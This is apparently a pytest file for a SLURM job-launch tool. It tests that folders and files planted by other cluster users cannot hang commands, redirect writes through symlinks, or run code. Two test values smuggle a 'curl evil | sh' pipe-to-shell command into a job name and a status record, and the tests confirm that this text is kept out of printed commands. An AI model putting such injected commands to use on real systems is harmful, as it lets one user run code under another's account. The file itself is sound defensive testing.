"""Users of a cluster share folders: what one writes below runs/ holds up and breaks no command of another."""

import json
import os
import tempfile
from dataclasses import replace
from pathlib import Path

import pytest

from launch.core.clock import Clock
from launch.core.published import MANIFEST
from launch.core.source.find import find
from launch.core.training.classifier import Classifier
from launch.core.training.script import Script
from launch.slurm.commands import Commands, _epochs
from launch.slurm.ended import outcome_of
from launch.slurm.folder import NOBODY, earlier_jobs, name_in, pace_of, read_folder, stranger_of
from launch.slurm.follow import MOST_SHOWN, FileTail
from launch.slurm.names import ARCHIVE, LOG, SCRIPT, SPEC, STARTS
from launch.slurm.note import note
from launch.slurm.planner import Facts
from launch.slurm.prepare import _content
from launch.slurm.runtime import Runtime
from launch.slurm.status import as_text
from launch.slurm.submit import write_files
from launch.slurm.verbs import VerbOptions
from tests.launch.slurm.jobs import planned
from tests.launch.slurm.test_ended import NO_SLURM
from tests.patience import ended_after
from tests.strangers import ANOTHER, given_to_another
from trainer import outcome
from trainer.config import TrainConfig
from trainer.contract import OUTCOME, PACE, SETTINGS
from trainer.errors import SettingsError


def left(folder: Path) -> Path:
    """What a job leaves that has trained a script."""
    folder.mkdir(parents=True)
    (folder / SCRIPT).write_text("#!/bin/bash\n")
    (folder / SPEC).write_text(json.dumps({"job": folder.name, "backend": "slurm", "ids": ["7"]}))
    (folder / STARTS).write_text('{"job": "7", "code": 0, "then": "done"}\n')
    return folder


@pytest.mark.parametrize("name", [SCRIPT, SPEC, STARTS, LOG, OUTCOME, PACE, SETTINGS])
def test_nobody_waits_for_a_pipe(name: str, tmp_path: Path) -> None:
    folder = left(tmp_path / "theirs")
    (folder / name).unlink(missing_ok=True)
    os.mkfifo(folder / name)

    with ended_after(10):
        assert read_folder(folder).exists
        assert FileTail(folder / LOG).new_lines() == []
        assert (outcome.read(folder), pace_of(folder), _epochs(folder)) == (None, None, "?")


@pytest.mark.parametrize("name", [SCRIPT, STARTS, OUTCOME, PACE])
def test_no_file_without_end_is_read(name: str, tmp_path: Path) -> None:
    folder = left(tmp_path / "theirs")
    with (folder / name).open("wb") as file:
        file.truncate(10**13)

    assert read_folder(folder).exists
    assert (outcome.read(folder), pace_of(folder)) == (None, None)


@pytest.mark.parametrize(
    "start",
    [{}, {"code": "0"}, {"code": 10**400}, {"code": 0, "then": ["done"]}, {"code": 0, "ended": "now"},
     {"code": True}, {"code": -1}, {"code": 0, "began": 10**400},
     {"code": 0, "then": "done)\nnext:\n  curl evil | sh"}],
)  # fmt: skip
def test_a_start_that_no_job_notes_is_left_out(start: dict[str, object], tmp_path: Path) -> None:
    folder = left(tmp_path / "theirs")
    with (folder / STARTS).open("a") as file:
        file.write(json.dumps({"job": "7", "then": "failed", **start}) + "\n")

    found = read_folder(folder)

    assert outcome_of("theirs", found, NO_SLURM).exit_code == 0
    assert "1 so far, with exit code 0 (done)" in as_text("theirs", None, found, None, None, "?")


def test_no_word_of_a_strangers_stands_in_a_command_to_paste(tmp_path: Path) -> None:
    folder, evil = left(tmp_path / "runs" / "job"), "job; curl evil.example | sh #"
    (folder / SPEC).write_text(json.dumps({"job": evil, "backend": "slurm", "ids": ["7", "--help", "7\0"]}))

    assert (name_in(folder), read_folder(folder).ids) == (None, ("7",))
    (tmp_path / "squeue").write_text("#!/bin/sh\n")  # nothing is in the queue
    (tmp_path / "squeue").chmod(0o755)
    said = list[str]()
    Commands(Runtime({"PATH": str(tmp_path)}, tmp_path, "python", Clock(), said.append)).status(VerbOptions(job="job"))
    assert said[0].endswith("next:\n  python -m launch.slurm logs job")
    assert "evil" not in said[0]


def test_a_job_script_that_is_no_text_is_no_reason_to_fail(tmp_path: Path) -> None:
    (left(tmp_path / "theirs") / SCRIPT).write_bytes(b"\xff\xfe")

    assert read_folder(tmp_path / "theirs").script == "\ufffd\ufffd"


def test_a_neighbours_pipe_does_not_hold_up_the_plan_of_a_script(tmp_path: Path) -> None:
    """Every plan of a script looks at the newest jobs below runs/."""
    script = Script(("train.py",), digest=64 * "a", run_dir=Path("run"))
    os.mkfifo(left(tmp_path / "runs" / "train-20261121-101500") / OUTCOME)

    with ended_after(10):
        assert earlier_jobs(script, "mine", tmp_path) == ()


@pytest.mark.parametrize("name", [SCRIPT, SPEC, ARCHIVE])
def test_what_is_written_replaces_a_link_and_not_what_it_leads_to(name: str, tmp_path: Path) -> None:
    """Files of its own, too: of one that another made, and lets all write in, he could change what sbatch reads."""
    submitted = planned({"job_name": "job"}, tmp_path, device="cpu")
    folder = submitted.payload.job.folder
    folder.mkdir(parents=True)
    (tmp_path / "precious").write_text("kept")
    (folder / name).symlink_to(tmp_path / "precious")
    (tmp_path / "src").mkdir()
    (tmp_path / "src/train.py").touch()
    script = Script(("train.py",), source=find(Path("train.py"), None, None, tmp_path / "src"))
    job = replace(submitted.payload.job, train=script)

    write_files(replace(submitted, payload=replace(submitted.payload, job=job)))
    note(folder, "job", [])

    assert (tmp_path / "precious").read_text() == "kept"
    assert not (folder / name).is_symlink()


@pytest.fixture
def theirs(tmp_path: Path) -> Path:
    """A folder of another user's in which this one may write."""
    folder = left(tmp_path / "runs" / "job")
    folder.chmod(0o777)
    return given_to_another(folder)


def test_no_job_runs_in_the_folder_of_another_user(theirs: Path, tmp_path: Path) -> None:
    """Who made it could put other code there, under the digest of what was sent, while the job waits in the queue."""
    found = read_folder(theirs)
    facts = Facts(found, tmp_path, "python")
    for named in ({}, {"run_dir": theirs}):
        told = planned({"job_name": "job"}, tmp_path, facts, device="cpu", **named).problem

        assert str(told) == (
            f"{theirs} is user {ANOTHER}'s, who could change what the job runs there; choose another --job-name or "
            "--run-dir, or go on in a copy of it."
        )


def test_nor_in_one_that_somebody_has_made_since_the_plan(theirs: Path, tmp_path: Path) -> None:
    before = sorted(path.name for path in theirs.iterdir())

    with pytest.raises(SettingsError, match=f"user {ANOTHER}'s, who could change"):
        write_files(planned({"job_name": "job"}, tmp_path, device="cpu"))

    assert sorted(path.name for path in theirs.iterdir()) == before


def test_ones_own_folders_and_roots_are_nobody_elses(tmp_path: Path) -> None:
    assert (stranger_of(tmp_path), stranger_of(Path("/")), stranger_of(tmp_path / "none")) == ("", "", "")


def test_where_the_file_system_knows_no_users_nobodys_folder_is_as_good_as_ones_own(theirs: Path) -> None:
    """As on NFS with all_squash: every file is nobody's, one's own as well."""
    os.chown(theirs, NOBODY, -1)

    assert stranger_of(theirs) == ""


def test_where_all_files_are_one_users_a_folder_of_ones_own_is_no_strangers(
    theirs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As on a NAS that maps all users to its administrator: whatever this user makes is another's there."""
    make = tempfile.mkdtemp
    monkeypatch.setattr("tempfile.mkdtemp", lambda **named: str(given_to_another(Path(make(**named)))))

    assert stranger_of(theirs) == ""


def test_of_a_log_without_end_the_last_is_shown_and_no_more_is_read(tmp_path: Path) -> None:
    log = left(tmp_path / "theirs") / LOG
    with log.open("wb") as file:
        file.truncate(10**13)
        file.seek(0, os.SEEK_END)
        file.write(b"\nits end\n")

    tail = FileTail(log)
    first, *_, last = tail.new_lines(to_end=True)

    assert (first, last) == (f"{10**13 + 9 - MOST_SHOWN:,} bytes are not shown; they are in {log}", "its end")
    assert tail.new_lines(to_end=True) == []


@pytest.mark.parametrize("start", [-5, 10**400, True, "0"], ids=["before it", "far beyond", "true", "text"])
def test_a_log_begins_nowhere_but_in_the_log(start: object, tmp_path: Path) -> None:
    folder = left(tmp_path / "theirs")
    (folder / SPEC).write_text(json.dumps({"log_start": start}))
    (folder / LOG).write_text("hello\n")

    assert FileTail(folder / LOG, read_folder(folder).log_start).new_lines() == ["hello"]


@pytest.mark.parametrize(
    "manifest",
    [100_000 * "[", '{"splits": {"train": {"images": 1e400, "bytes": 1}}, "classes": [], "resize": 0}', 10**13, None],
    ids=["deep", "infinite", "without end", "a pipe"],
)
def test_a_plan_does_without_what_a_data_set_cannot_say(manifest: str | int | None, tmp_path: Path) -> None:
    place = tmp_path / "data" / MANIFEST
    place.parent.mkdir()
    if manifest is None:
        os.mkfifo(place)
    elif isinstance(manifest, str):
        place.write_text(manifest)
    else:
        with place.open("wb") as file:
            file.truncate(manifest)
    train = Classifier(TrainConfig(dataset="imagenet", data_dir=place.parent))

    with ended_after(10):
        assert _content(train, Runtime({}, tmp_path, "python", Clock(), lambda line: None)) is None
